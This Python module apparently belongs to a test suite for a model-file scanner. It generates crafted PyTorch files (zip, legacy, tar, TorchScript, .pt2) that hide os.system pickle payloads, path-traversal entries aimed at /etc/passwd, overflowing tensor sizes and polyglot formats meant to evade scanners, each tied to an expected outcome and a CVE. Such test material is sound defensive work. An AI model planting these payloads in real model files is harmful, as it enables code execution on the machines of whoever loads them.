# ruff: noqa: E501  (tables, one attack a line)
"""torch's own containers around a payload or a lie: zip, legacy, tar, TorchScript, `.pt2`."""

import gzip
import io
import json
import pickle
import struct
import tarfile
import zipfile
from pathlib import Path
from typing import Any

from attacks import canary
from attacks.attack import INERT, Attack, Must, add, attack, refused, told
from attacks.families.pickles_that_run import call, text

FAMILY = "torch file"
RUN = told("code-in-file")


def system() -> bytes:
    return call("os", "system", canary.shell())


def archive(records: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", method) as zipped:
        for name, data in records.items():
            zipped.writestr(zipfile.ZipInfo(name), data, method)
    return made.getvalue()


def torch_zip(data: bytes, more: dict[str, bytes] | None = None) -> bytes:
    return archive(
        {"m/data.pkl": data, "m/byteorder": b"little", "m/version": b"3\n", **(more or {})}
    )


def storage_id(key: bytes = b"0", count: bytes = b"K\x04", kind: bytes = b"FloatStorage") -> bytes:
    return (b"(" + text(b"storage") + b"ctorch\n" + kind + b"\n" + text(key) + text(b"cpu") + count
            + b"tQ")  # fmt: skip


def tensor(storage: bytes, offset: bytes, shape: bytes, stride: bytes) -> bytes:
    return (b"ctorch._utils\n_rebuild_tensor_v2\n(" + storage + offset + shape + stride
            + b"\x89ccollections\nOrderedDict\n)RtR")  # fmt: skip


def state(value: bytes, **records: bytes) -> bytes:
    """A torch zip of {"0.weight": value}, with one storage of 16 bytes unless told otherwise."""
    return torch_zip(b"\x80\x02}" + text(b"0.weight") + value + b"s.",
                     records or {"m/data/0": struct.pack("<4f", 1, 2, 3, 4)})  # fmt: skip


@attack(FAMILY, "payload in data.pkl", "to run code on torch.load", RUN, "CVE-2025-32434")
def payload(folder: Path) -> bytes:
    return torch_zip(b"\x80\x02" + system() + b".")


@attack(FAMILY, "payload beside honest weights", "to run code and load as if nothing were", RUN)
def beside(folder: Path) -> bytes:
    weights = tensor(storage_id(), b"K\x00", b"K\x02K\x02\x86", b"K\x02K\x01\x86")
    return state(weights + b"s" + text(b"x") + system())


@attack(FAMILY, "second pickle under an odd extension", "a pickle that a loader by name misses",
        Must("inert"), "CVE-2025-1889")  # fmt: skip
def second(folder: Path) -> bytes:
    return torch_zip(
        b"\x80\x02}.", {"m/data/config.p": system() + b".", "m/x.jpg": system() + b"."}
    )


@attack(FAMILY, "two data.pkl in two folders", "a scanner reads one, the loader another",
        Must("inert"), "bypasses of pickle scanners")  # fmt: skip
def two(folder: Path) -> bytes:
    return archive(
        {"m/data.pkl": b"\x80\x02}.", "n/data.pkl": system() + b".", "m/version": b"3\n"}
    )


@attack(FAMILY, "data.pkl in capitals", "torch looks records up without regard to case",
        told("zip-duplicate-name"), "CVE-2025-1944")  # fmt: skip
def capitals(folder: Path) -> bytes:
    return archive(
        {"m/data.pkl": b"\x80\x02}.", "m/DATA.PKL": system() + b".", "m/version": b"3\n"}
    )


@attack(FAMILY, "pickle named .bin", "a plain pickle that a scanner takes for a torch zip", RUN,
        "CVE-2025-10155", "pytorch_model.bin")  # fmt: skip
def plain(folder: Path) -> bytes:
    return b"\x80\x02" + system() + b"."


@attack(FAMILY, "7z", "a container that scanners do not open", refused("compressed-file"),
        "nullifAI", "pytorch_model.bin")  # fmt: skip
def seven(folder: Path) -> bytes:
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(24) + system() + b"."


@attack(
    FAMILY, "TorchScript as a state dict", "code for torch.load's safe mode", RUN, "CVE-2025-32434"
)
def script(folder: Path) -> bytes:
    return archive({
        "m/data.pkl": b"\x80\x02" + system() + b".", "m/constants.pkl": b"\x80\x02).",
        "m/code/__torch__.py": b"class Net(Module):\n  def forward(self):\n    " + canary.python(),
        "m/version": b"3\n",
    })  # fmt: skip


@attack(FAMILY, "TorchScript whose constants run code", "a pickle that a scanner may skip",
        RUN, "bypasses of pickle scanners")  # fmt: skip
def constants(folder: Path) -> bytes:
    return archive({"m/data.pkl": b"\x80\x02}.", "m/constants.pkl": b"\x80\x02" + system() + b".",
                    "m/code/__torch__.py": b"", "m/version": b"3\n"})  # fmt: skip


@attack(FAMILY, "TorchScript of a hundred thousand attributes", "to exhaust by its code", INERT)
def many_attributes(folder: Path) -> bytes:
    code = b"class Net(Module):\n  __parameters__ = [" + b'"a", ' * 100_000 + b"]\n"
    return archive({"m/data.pkl": b"\x80\x02c__torch__\nNet\n)\x81}b.", "m/version": b"3\n",
                    "m/constants.pkl": b"\x80\x02).", "m/code/__torch__.py": code})  # fmt: skip


def tarred(members: dict[str, bytes]) -> bytes:
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return made.getvalue()


@attack(
    FAMILY,
    "tar of before torch 0.4",
    "the loader that never knew weights_only",
    RUN,
    "CVE-2025-32434",
)
def old_tar(folder: Path) -> bytes:
    none = pickle.dumps(0, 2)
    return tarred({"sys_info": pickle.dumps({"little_endian": True}, 2),
                   "storages": none + pickle.dumps([], 2), "tensors": none, "pickle": b"\x80\x02" + system() + b"."})  # fmt: skip


@attack(FAMILY, "tar with a payload for its storages", "code in the member read first",
        refused("tar-damaged"), "CVE-2025-32434")  # fmt: skip
def tar_storages(folder: Path) -> bytes:
    return tarred({"sys_info": system() + b".", "storages": system() + b".",
                   "tensors": system() + b".", "pickle": pickle.dumps({}, 2)})  # fmt: skip


@attack(FAMILY, "tar of 2^63 storages", "a count that is believed", refused("tar-damaged"))
def tar_count(folder: Path) -> bytes:
    return tarred({"sys_info": pickle.dumps({"little_endian": True}, 2),
                   "storages": pickle.dumps(1 << 63, 2), "tensors": pickle.dumps(1 << 63, 2),
                   "pickle": pickle.dumps({}, 2)})  # fmt: skip


@attack(FAMILY, "tar with paths that climb", "to write outside when unpacked", refused("compressed-file"),
        "CVE-2007-4559")  # fmt: skip
def tar_paths(folder: Path) -> bytes:
    return tarred({"../outside/planted": b"x", "/tmp/planted": b"x", "data.pkl": system() + b"."})


MAGIC = b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19."
VERSION = b"\x80\x02M\xe9\x03."
SYSTEM = pickle.dumps({"little_endian": True, "protocol_version": 1001, "type_sizes": {}}, 2)


def legacy(data: bytes, keys: bytes = pickle.dumps([], 2), tail: bytes = b"") -> bytes:
    return MAGIC + VERSION + SYSTEM + data + keys + tail


@attack(FAMILY, "legacy file with a payload", "to run code on torch.load", RUN, "CVE-2025-32434")
def old_payload(folder: Path) -> bytes:
    return legacy(b"\x80\x02" + system() + b".")


@attack(FAMILY, "magic number computed", "a pickle that a scanner does not take for torch's", RUN,
        "bypasses of pickle scanners")  # fmt: skip
def computed(folder: Path) -> bytes:
    number = b"cbuiltins\nint\n(" + text(b"119547037146038801333356") + b"tR."
    return b"\x80\x02" + number + VERSION + SYSTEM + b"\x80\x02" + system() + b"."


@attack(FAMILY, "payload in place of the magic number", "run before anything is checked", RUN,
        "bypasses of pickle scanners")  # fmt: skip
def before_magic(folder: Path) -> bytes:
    return b"\x80\x02" + system() + b"." + MAGIC + VERSION + SYSTEM


@attack(FAMILY, "legacy system information that runs code", "a pickle before the one that is scanned",
        RUN, "bypasses of pickle scanners")  # fmt: skip
def in_system(folder: Path) -> bytes:
    return (
        MAGIC + VERSION + b"\x80\x02" + system() + b"." + pickle.dumps({}, 2) + pickle.dumps([], 2)
    )


@attack(FAMILY, "legacy storage keys that run code", "a pickle behind the one that is scanned", RUN,
        "bypasses of pickle scanners")  # fmt: skip
def in_keys(folder: Path) -> bytes:
    return legacy(pickle.dumps({}, 2), b"\x80\x02" + system() + b"0].")


OLD_STORAGE = (b"(" + text(b"storage") + b"ctorch\nFloatStorage\n" + text(b"0") + text(b"cpu")
               + b"K\x04NtQ")  # fmt: skip
OLD_STATE = (b"\x80\x02}" + text(b"0.weight")
             + tensor(OLD_STORAGE, b"K\x00", b"K\x04\x85", b"K\x01\x85") + b"s.")  # fmt: skip

for _name, _count, _data in (
    ("of 2^63 elements", (1 << 63) - 1, bytes(16)),
    ("of a negative count", -5, bytes(16)),
    ("longer than its record", 400, bytes(1600)),
    ("shorter than its record", 1, bytes(4)),
    ("that is cut off", 4, bytes(3)),
):
    add(Attack(
        f"legacy storage {_name}", FAMILY, "a size in the data other than the pickle's",
        refused({-5: "legacy-storages", 400: "storage-size-mismatch",
                 1: "storage-size-mismatch"}.get(_count, "legacy-truncated")),
        lambda folder, count=_count, data=_data: legacy(
            OLD_STATE, pickle.dumps(["0"], 2), struct.pack("<q", count) + data),
        "CVE-2026-24747",
    ))  # fmt: skip


# Storages and strides within a zip file of torch's
_W, _S = b"K\x02K\x02\x86", b"K\x02K\x01\x86"
_FAR = b"\x8a\x08" + b"\xff" * 7 + b"\x7f"
_PAST = Must("refused", "tensor-past-storage")
TENSORS: dict[str, tuple[str, bytes, Must]] = {
    "strides past the storage": ("to read what lies behind the storage",
        tensor(storage_id(), b"K\x00", _W, b"M\xe8\x03K\x01\x86"), _PAST),
    "offset past the storage": ("to read what lies behind the storage",
        tensor(storage_id(), b"M\xe8\x03", _W, _S), _PAST),
    "negative offset": ("to read what lies before the storage",
        tensor(storage_id(), b"J\xff\xff\xff\xff", _W, _S), refused("odd-arguments")),
    "negative strides": ("to read what lies before the storage",
        tensor(storage_id(), b"K\x00", _W, b"J\xff\xff\xff\xffK\x01\x86"), refused("odd-arguments")),
    "strides of 2^63": ("to overflow the sum of the extent",
        tensor(storage_id(), b"K\x00", _W, _FAR + _FAR + b"\x86"), refused("odd-arguments")),
    "shape of 2^63": ("to overflow the product of the shape",
        tensor(storage_id(), b"K\x00", _FAR + _FAR + b"\x86", _S), refused("odd-arguments")),
    "a zero stride of 2^40 elements": ("a tensor of terabytes from 16 bytes",
        tensor(storage_id(), b"K\x00", b"\x8a\x06\x00\x00\x00\x00\x00\x01\x85", b"K\x00\x85"),
        refused("tensor-expanded")),
    "more strides than dimensions": ("lengths that do not agree",
        tensor(storage_id(), b"K\x00", _W, b"K\x01\x85"), INERT),
    "storage of more than its record": ("storage size not that of its record",
        tensor(storage_id(count=b"M\xe8\x03"), b"K\x00", b"M\xe8\x03\x85", b"K\x01\x85"),
        refused("storage-size-mismatch")),
    "storage of less than its record": ("storage size not that of its record",
        tensor(storage_id(count=b"K\x01"), b"K\x00", _W, _S), refused("storage-size-mismatch")),
    "storage without its record": ("a record that is not there",
        tensor(storage_id(b"7"), b"K\x00", _W, _S), refused("storage-missing")),
    "storage key that climbs": ("to read a file outside through the storage's key",
        tensor(storage_id(b"../../../etc/passwd"), b"K\x00", _W, _S), refused("storage-missing")),
    "storage key that is absolute": ("to read a file outside through the storage's key",
        tensor(storage_id(b"/etc/passwd"), b"K\x00", _W, _S), refused("storage-missing")),
    "storage key that is a pickle": ("to read data.pkl as weights",
        tensor(storage_id(b"../data.pkl"), b"K\x00", _W, _S), refused("storage-missing")),
    "storage of two types": ("one storage as floats and as doubles",
        tensor(storage_id(), b"K\x00", _W, _S) + b"s" + text(b"b")
        + tensor(storage_id(kind=b"DoubleStorage"), b"K\x00", _W, _S), INERT),
    "storage of a class that is none": ("os.system for a storage's type",
        b"ctorch._utils\n_rebuild_tensor_v2\n((" + text(b"storage") + b"cos\nsystem\n" + text(b"0")
        + text(b"cpu") + b"K\x04tQK\x00" + _W + _S + b"\x89}tR", refused("pickle-malformed")),
    "device that is a command": ("a device that is evaluated",
        tensor(storage_id().replace(text(b"cpu"), text(b"__import__('os')")), b"K\x00", _W, _S),
        INERT),
    "sparse with indices out of range": ("to read or write past the tensor",
        b"ctorch._utils\n_rebuild_sparse_tensor\n(ctorch\nsparse_coo\n("
        + tensor(storage_id(kind=b"LongStorage", count=b"K\x02"), b"K\x00", b"K\x01K\x02\x86", b"K\x02K\x01\x86")
        + tensor(storage_id(b"1"), b"K\x00", b"K\x02\x85", b"K\x01\x85")
        + b"K\x02\x85\x89ttR", INERT),
    "sparse CSR with row pointers that fall": ("to read or write past the tensor",
        b"ctorch._utils\n_rebuild_sparse_tensor\n(ctorch\nsparse_csr\n("
        + tensor(storage_id(kind=b"LongStorage", count=b"K\x02"), b"K\x00", b"K\x02\x85", b"K\x01\x85")
        + tensor(storage_id(kind=b"LongStorage", count=b"K\x02"), b"K\x00", b"K\x02\x85", b"K\x01\x85")
        + tensor(storage_id(b"1"), b"K\x00", b"K\x02\x85", b"K\x01\x85")
        + b"K\x01K\x02\x86\x89ttR", INERT),
    "quantised with a scale of zero": ("a division by nothing",
        b"ctorch._utils\n_rebuild_qtensor\n(" + storage_id(kind=b"QInt8Storage", count=b"K\x10")
        + b"K\x00" + _W + _S + b"(ctorch\nper_tensor_affine\nG" + bytes(8) + b"K\x00t\x89}tR", INERT),
    "quantised with a scale that is NaN": ("numbers that are none",
        b"ctorch._utils\n_rebuild_qtensor\n(" + storage_id(kind=b"QInt8Storage", count=b"K\x10")
        + b"K\x00" + _W + _S + b"(ctorch\nper_tensor_affine\nG\x7f\xf8" + bytes(6) + b"K\x00t\x89}tR", INERT),
    "quantised along an axis of 2^31": ("an axis past the dimensions",
        b"ctorch._utils\n_rebuild_qtensor\n(" + storage_id(kind=b"QInt8Storage", count=b"K\x10")
        + b"K\x00" + _W + _S + b"(ctorch\nper_channel_affine\n"
        + tensor(storage_id(b"1"), b"K\x00", b"K\x02\x85", b"K\x01\x85")
        + tensor(storage_id(b"1"), b"K\x00", b"K\x02\x85", b"K\x01\x85") + b"J\xff\xff\xff\x7ft\x89}tR",
        INERT),
    "quantised by a scheme that is a function": ("os.system for a scheme",
        b"ctorch._utils\n_rebuild_qtensor\n(" + storage_id(kind=b"QInt8Storage", count=b"K\x10")
        + b"K\x00" + _W + _S + b"(cos\nsystem\nG?\xf0" + bytes(6) + b"K\x00t\x89}tR", RUN),
    "a tensor within its own state": ("a cycle through a subclass",
        b"ctorch._tensor\n_rebuild_from_type_v2\n(ctorch._utils\n_rebuild_tensor_v2\nctorch\nTensor\n("
        + storage_id() + b"K\x00" + _W + _S + b"\x89}t}q\x05" + text(b"me") + b"h\x05stR", INERT),
    "a wrapper subclass of a dangerous class": ("subprocess.Popen for a tensor's class",
        b"ctorch._tensor\n_rebuild_wrapper_subclass\n(csubprocess\nPopen\nctorch\nfloat32\n" + _W + _S
        + b"K\x00ctorch\nstrided\n" + text(b"cpu") + b"\x89tR", INERT),
}  # fmt: skip
for _name, (_tries, _value, _must) in TENSORS.items():
    add(Attack(
        _name, "tensor", _tries, _must,
        lambda folder, value=_value: state(value, **{
            "m/data/0": struct.pack("<4f", 1, 2, 3, 4), "m/data/1": struct.pack("<2f", 1, 2)}),
        "CVE-2026-24747" if "storage" in _name else "ours",
    ))  # fmt: skip


# Exported programs
def exported(**records: bytes | str) -> bytes:
    base: dict[str, Any] = {"archive_format": b"pt2", "archive_version": b"0", "byteorder": b"little",
                            "models/model.json": b"{}"}  # fmt: skip
    made = {name: data.encode() if isinstance(data, str) else data for name, data in
            (base | records).items()}  # fmt: skip
    return archive({f"e/{name}": data for name, data in made.items()})


CONFIG = "data/weights/model_weights_config.json"


@attack(
    FAMILY,
    "pt2 with pickled weights that run code",
    "a loader that unpickles",
    RUN,
    "CVE-2026-4538",
    "m.pt2",
)
def pt2_pickle(folder: Path) -> bytes:
    return exported(**{"data/weights/model.pt": torch_zip(b"\x80\x02" + system() + b".")})


@attack(FAMILY, "pt2 with pickled constants that run code", "a loader that unpickles", RUN,
        "CVE-2026-4538", "m.pt2")  # fmt: skip
def pt2_constants(folder: Path) -> bytes:
    weight = {
        "path_name": "custom_obj_0",
        "is_param": False,
        "use_pickle": True,
        "tensor_meta": None,
    }
    return exported(**{
        "data/constants/model_constants_config.json": json.dumps({"config": {"c": weight}}),
        "data/constants/custom_obj_0": system() + b".", CONFIG: json.dumps({"config": {}}),
    })  # fmt: skip


def _weight(**changes: Any) -> str:
    meta = {"dtype": 7, "sizes": [{"as_int": 2}], "strides": [{"as_int": 1}], "layout": 7,
            "storage_offset": {"as_int": 0}, "requires_grad": False}  # fmt: skip
    path = changes.pop("path_name", "weight_0")
    return json.dumps({"config": {"w": {"path_name": path, "is_param": True, "use_pickle": False,
                                        "tensor_meta": meta | changes}}})  # fmt: skip


PT2: dict[str, tuple[str, Must]] = {
    "sizes of 2^63": (_weight(sizes=[{"as_int": 1 << 63}]), told("pt2-tensor")),
    "negative sizes": (_weight(sizes=[{"as_int": -1}]), told("pt2-tensor")),
    "sizes that are expressions": (_weight(sizes=[{"as_expr": {"expr_str": "__import__('os')"}}]),
                                   told("pt2-tensor")),
    "strides past the weight": (_weight(strides=[{"as_int": 1 << 40}]), told("pt2-tensor")),
    "a weight outside": (_weight(path_name="../../../../etc/passwd"), told("pt2-tensor")),
    "a weight of a number": (_weight(path_name=7), told("pt2-tensor")),
    "deeply nested JSON": ('{"config":' + "[" * 100_000, told("json-damaged")),
    "duplicate keys": ('{"config": {"w": 1}, "config": {"w": 2}}', told("json-damaged")),
}  # fmt: skip
for _name, (_config, _must) in PT2.items():
    add(Attack(f"pt2 with {_name}", FAMILY, "to mislead the reader of exported programs", _must,
               lambda folder, config=_config: exported(
                   **{CONFIG: config, "data/weights/weight_0": bytes(8)}),
               "ours", "m.pt2"))  # fmt: skip


@attack(FAMILY, "gzip inside a record", "a payload that is inflated later", INERT)
def inside(folder: Path) -> bytes:
    return torch_zip(b"\x80\x02}" + text(b"x") + b"B" + struct.pack("<I", len(gz := gzip.compress(
        system() + b"."))) + gz + b"s.")  # fmt: skip


@attack(FAMILY, "a web page with a pickle behind it", "two formats in one file",
        refused("web-page"), "polyglots")  # fmt: skip
def page(folder: Path) -> bytes:
    return b"<!DOCTYPE html><html>" + b" " * 100 + system() + b"."


@attack(FAMILY, "a safetensors header before a zip", "two formats in one file",
        refused("safetensors-header-damaged"), "polyglots")  # fmt: skip
def two_formats(folder: Path) -> bytes:
    header = b'{"__metadata__":{"a":"b"}}'
    return struct.pack("<Q", len(header)) + header + torch_zip(b"\x80\x02" + system() + b".")
